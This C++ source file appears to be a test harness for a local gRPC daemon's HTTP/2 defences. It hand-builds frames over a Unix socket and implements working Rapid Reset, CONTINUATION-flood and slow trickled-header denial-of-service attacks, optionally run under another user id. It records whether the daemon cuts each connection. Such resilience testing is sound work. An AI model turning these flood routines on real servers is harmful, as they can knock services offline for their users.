#include "h2_peer.h"

#include <grp.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <thread>
#include <vector>

namespace memoffload::bench {

namespace {

using Clock = std::chrono::steady_clock;

constexpr std::string_view kPreface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
constexpr uint8_t kHeaders = 0x1;
constexpr uint8_t kRstStream = 0x3;
constexpr uint8_t kSettings = 0x4;
constexpr uint8_t kContinuation = 0x9;
constexpr uint8_t kEndHeaders = 0x4;
constexpr std::string_view kPath = "/memoffload.v1.OffloadService/Reserve";

void Literal(std::string* out, std::string_view name, std::string_view value) {
  out->push_back(0x00);  // literal header field without indexing, new name
  H2Peer::HpackInt(out, 0x00, 7, name.size());
  out->append(name);
  H2Peer::HpackInt(out, 0x00, 7, value.size());
  out->append(value);
}

double Since(Clock::time_point start) {
  return std::chrono::duration<double>(Clock::now() - start).count();
}

}  // namespace

Result<std::unique_ptr<H2Peer>> H2Peer::Connect(const std::string& socket_path) {
  const int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (fd < 0) return Unavailable(std::string("socket: ") + std::strerror(errno));
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  if (socket_path.size() >= sizeof(addr.sun_path)) {
    close(fd);
    return InvalidArgument("socket path too long: " + socket_path);
  }
  std::memcpy(addr.sun_path, socket_path.c_str(), socket_path.size() + 1);
  if (connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0 && errno != EINPROGRESS) {
    const int error = errno;
    close(fd);
    return Unavailable("connect " + socket_path + ": " + std::strerror(error));
  }
  std::unique_ptr<H2Peer> peer(new H2Peer(fd));
  std::string hello(kPreface);
  hello += Frame(kSettings, 0, 0, "");
  if (!peer->Send(hello)) return Unavailable("the daemon closed the connection at once");
  return peer;
}

H2Peer::~H2Peer() { close(fd_); }

uint32_t H2Peer::NextStream() {
  const uint32_t id = next_stream_;
  next_stream_ += 2;
  return id;
}

bool H2Peer::Alive() {
  char buf[65536];
  while (!closed_) {
    const ssize_t n = recv(fd_, buf, sizeof(buf), MSG_DONTWAIT);
    if (n > 0) continue;
    if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) break;
    if (n < 0 && errno == EINTR) continue;
    closed_ = true;
  }
  return !closed_;
}

bool H2Peer::Send(std::string_view bytes, int timeout_ms) {
  auto last_progress = Clock::now();
  while (!bytes.empty()) {
    if (!Alive()) return false;
    const ssize_t n = send(fd_, bytes.data(), bytes.size(), MSG_NOSIGNAL | MSG_DONTWAIT);
    if (n > 0) {
      bytes.remove_prefix(static_cast<size_t>(n));
      last_progress = Clock::now();
      continue;
    }
    if (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR) {
      closed_ = true;
      return false;
    }
    if (Clock::now() - last_progress > std::chrono::milliseconds(timeout_ms)) return false;
    pollfd p{fd_, POLLIN | POLLOUT, 0};
    poll(&p, 1, 50);
  }
  return true;
}

bool H2Peer::WaitClosed(int timeout_ms) {
  const auto deadline = Clock::now() + std::chrono::milliseconds(timeout_ms);
  while (Alive()) {
    if (Clock::now() >= deadline) return false;
    pollfd p{fd_, POLLIN, 0};
    poll(&p, 1, 20);
  }
  return true;
}

std::string H2Peer::Frame(uint8_t type, uint8_t flags, uint32_t stream, std::string_view payload) {
  std::string f;
  f.reserve(9 + payload.size());
  const size_t n = payload.size();
  f.push_back(static_cast<char>((n >> 16) & 0xff));
  f.push_back(static_cast<char>((n >> 8) & 0xff));
  f.push_back(static_cast<char>(n & 0xff));
  f.push_back(static_cast<char>(type));
  f.push_back(static_cast<char>(flags));
  f.push_back(static_cast<char>((stream >> 24) & 0x7f));
  f.push_back(static_cast<char>((stream >> 16) & 0xff));
  f.push_back(static_cast<char>((stream >> 8) & 0xff));
  f.push_back(static_cast<char>(stream & 0xff));
  f.append(payload);
  return f;
}

void H2Peer::HpackInt(std::string* out, uint8_t first_bits, int prefix_bits, uint64_t value) {
  const uint64_t max_prefix = (1u << prefix_bits) - 1;
  if (value < max_prefix) {
    out->push_back(static_cast<char>(first_bits | value));
    return;
  }
  out->push_back(static_cast<char>(first_bits | max_prefix));
  value -= max_prefix;
  while (value >= 128) {
    out->push_back(static_cast<char>((value & 0x7f) | 0x80));
    value >>= 7;
  }
  out->push_back(static_cast<char>(value));
}

std::string H2Peer::RequestHeaders(std::string_view path) {
  std::string block;
  Literal(&block, ":method", "POST");
  Literal(&block, ":scheme", "http");
  Literal(&block, ":path", path);
  Literal(&block, ":authority", "localhost");
  Literal(&block, "content-type", "application/grpc");
  Literal(&block, "te", "trailers");
  return block;
}

AttackResult RapidReset(const std::string& socket_path, uint64_t pairs) {
  AttackResult r;
  auto peer = H2Peer::Connect(socket_path);
  if (!peer.ok()) {
    r.error = peer.status().message();
    return r;
  }
  const auto start = Clock::now();
  const std::string headers = H2Peer::RequestHeaders(kPath);
  const std::string cancel("\x00\x00\x00\x08", 4);  // CANCEL
  std::string batch;
  uint64_t sent_pairs = 0;
  while (sent_pairs < pairs) {
    batch.clear();
    uint64_t in_batch = 0;
    for (; in_batch < 1000 && sent_pairs + in_batch < pairs; ++in_batch) {
      const uint32_t id = (*peer)->NextStream();
      batch += H2Peer::Frame(kHeaders, kEndHeaders, id, headers);
      batch += H2Peer::Frame(kRstStream, 0, id, cancel);
    }
    if (!(*peer)->Send(batch)) {
      r.closed_by_daemon = !(*peer)->Alive();
      break;
    }
    sent_pairs += in_batch;
    r.bytes_sent += batch.size();
    r.frames_sent += 2 * in_batch;
  }
  if (!r.closed_by_daemon) r.closed_by_daemon = (*peer)->WaitClosed(1000);
  r.seconds = Since(start);
  return r;
}

AttackResult ContinuationFlood(const std::string& socket_path, uint64_t bytes) {
  AttackResult r;
  auto peer = H2Peer::Connect(socket_path);
  if (!peer.ok()) {
    r.error = peer.status().message();
    return r;
  }
  const auto start = Clock::now();
  const uint32_t id = (*peer)->NextStream();
  std::string first = H2Peer::RequestHeaders(kPath);
  Literal(&first, "x-flood", "");
  const std::string frame = H2Peer::Frame(kHeaders, 0, id, first);
  const std::string more(16384, 'a');
  const std::string continuation = H2Peer::Frame(kContinuation, 0, id, more);
  bool open = (*peer)->Send(frame);
  if (open) r.bytes_sent += frame.size(), ++r.frames_sent;
  std::string batch;
  for (int i = 0; i < 16; ++i) batch += continuation;
  while (open && r.bytes_sent < bytes) {
    open = (*peer)->Send(batch);
    if (open) r.bytes_sent += batch.size(), r.frames_sent += 16;
  }
  r.closed_by_daemon = open ? (*peer)->WaitClosed(1000) : !(*peer)->Alive();
  r.seconds = Since(start);
  return r;
}

AttackResult TrickledHeader(const std::string& socket_path, int connections, double seconds) {
  AttackResult r;
  std::vector<std::unique_ptr<H2Peer>> peers;
  std::vector<uint32_t> ids;
  const auto start = Clock::now();
  for (int i = 0; i < connections; ++i) {
    auto peer = H2Peer::Connect(socket_path);
    if (!peer.ok()) {
      r.error = peer.status().message();
      return r;
    }
    const uint32_t id = (*peer)->NextStream();
    // A header value announced as 1 GiB, of which the first bytes follow.
    std::string block = H2Peer::RequestHeaders(kPath);
    block.push_back(0x00);
    H2Peer::HpackInt(&block, 0x00, 7, 7);
    block += "x-slow1";
    H2Peer::HpackInt(&block, 0x00, 7, uint64_t{1} << 30);
    block += "0123456789abcdef";
    const std::string frame = H2Peer::Frame(kHeaders, 0, id, block);
    if ((*peer)->Send(frame)) r.bytes_sent += frame.size(), ++r.frames_sent;
    peers.push_back(std::move(*peer));
    ids.push_back(id);
  }
  size_t closed = 0;
  const std::string piece(4096, 'z');
  while (Since(start) < seconds && closed < peers.size()) {
    closed = 0;
    for (size_t i = 0; i < peers.size(); ++i) {
      const std::string frame = H2Peer::Frame(kContinuation, 0, ids[i], piece);
      if (peers[i]->Send(frame, 1000)) {
        r.bytes_sent += frame.size();
        ++r.frames_sent;
      } else {
        ++closed;
      }
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  // Closed by the daemon: every attacking connection.
  r.closed_by_daemon = true;
  for (auto& p : peers) r.closed_by_daemon = r.closed_by_daemon && !p->Alive();
  r.seconds = Since(start);
  return r;
}

AttackResult RunAsUid(uid_t uid, const std::function<AttackResult()>& attack) {
  AttackResult r;
  int pipe_fds[2];
  if (pipe(pipe_fds) != 0) {
    r.error = std::string("pipe: ") + std::strerror(errno);
    return r;
  }
  const pid_t child = fork();
  if (child == 0) {
    close(pipe_fds[0]);
    if (uid != getuid() && (setgroups(0, nullptr) != 0 || setgid(uid) != 0 || setuid(uid) != 0)) {
      dprintf(pipe_fds[1], "0 0 0 0 cannot become uid %u: %s\n", uid, std::strerror(errno));
      _exit(1);
    }
    const AttackResult a = attack();
    dprintf(pipe_fds[1], "%llu %llu %d %.6f %s\n", static_cast<unsigned long long>(a.bytes_sent),
            static_cast<unsigned long long>(a.frames_sent), a.closed_by_daemon ? 1 : 0, a.seconds,
            a.error.c_str());
    _exit(0);
  }
  close(pipe_fds[1]);
  if (child < 0) {
    close(pipe_fds[0]);
    r.error = std::string("fork: ") + std::strerror(errno);
    return r;
  }
  std::string line;
  char buf[512];
  ssize_t n;
  while ((n = read(pipe_fds[0], buf, sizeof(buf))) > 0) line.append(buf, static_cast<size_t>(n));
  close(pipe_fds[0]);
  waitpid(child, nullptr, 0);
  unsigned long long bytes = 0, frames = 0;
  int closed = 0, used = 0;
  double seconds = 0;
  if (std::sscanf(line.c_str(), "%llu %llu %d %lf %n", &bytes, &frames, &closed, &seconds, &used) <
      4) {
    r.error = "the attacker process reported nothing";
    return r;
  }
  r.bytes_sent = bytes;
  r.frames_sent = frames;
  r.closed_by_daemon = closed != 0;
  r.seconds = seconds;
  r.error = line.substr(static_cast<size_t>(used));
  while (!r.error.empty() && (r.error.back() == '\n' || r.error.back() == ' ')) {
    r.error.pop_back();
  }
  return r;
}

}  // namespace memoffload::bench
